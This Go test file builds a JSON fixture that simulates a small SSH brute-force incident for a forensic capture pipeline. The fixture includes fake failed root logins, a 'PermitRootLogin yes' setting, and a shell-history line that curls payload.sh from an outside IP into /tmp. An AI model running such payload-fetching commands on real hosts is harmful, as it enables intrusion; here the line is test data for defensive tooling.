// Package e2e runs a fixture capture through the full pipeline with every
// component wired; this file builds the fixture.
package e2e

import (
	"os"
	"path/filepath"
	"testing"
)

// Expected shape of FixtureCapture after normalization: six artifacts across
// five categories, with one unreadable source riding along as data.
const (
	FixtureArtifacts   = 6
	FixtureItems       = 11
	FixtureUnavailable = 1
)

// FixtureCapture is a category-grouped capture document modeled on a small
// SSH brute-force incident: repeated failed root logins in auth.log, a
// follow-up root shell and payload download in the shell history, and an
// unreadable btmp alongside ordinary network, process, and config snapshots.
const FixtureCapture = `{
	"case_id": "case-e2e-breach",
	"timestamp": "2024-03-01T10:00:00Z",
	"system_logs": {
		"/var/log/auth.log": "Mar  1 09:58:01 host sshd[4211]: Failed password for root from 10.0.0.5 port 22 ssh2\nMar  1 09:58:03 host sshd[4211]: Failed password for invalid user admin from 10.0.0.5 port 22 ssh2\nMar  1 09:58:09 host sshd[4211]: Accepted password for deploy from 10.0.0.9 port 22 ssh2",
		"/var/log/btmp": {"unavailable": {"reason": "permission denied", "observed_at": "2024-03-01T09:59:00Z"}}
	},
	"user_activity": {
		"/root/.bash_history": "sudo su -\ncurl http://198.51.100.7/payload.sh -o /tmp/payload.sh"
	},
	"network": {
		"ss -tlnp": ["LISTEN 0 128 0.0.0.0:22 sshd", "LISTEN 0 511 0.0.0.0:80 nginx"]
	},
	"processes": {
		"ps aux": {"644": "/usr/sbin/sshd -D", "912": "nginx: master process"}
	},
	"configuration": {
		"/etc/ssh/sshd_config": "PermitRootLogin yes"
	}
}`

// WriteFixtureCapture writes the fixture document under dir and returns its path.
func WriteFixtureCapture(t *testing.T, dir string) string {
	t.Helper()
	path := filepath.Join(dir, "capture.json")
	if err := os.WriteFile(path, []byte(FixtureCapture), 0644); err != nil {
		t.Fatal(err)
	}
	return path
}
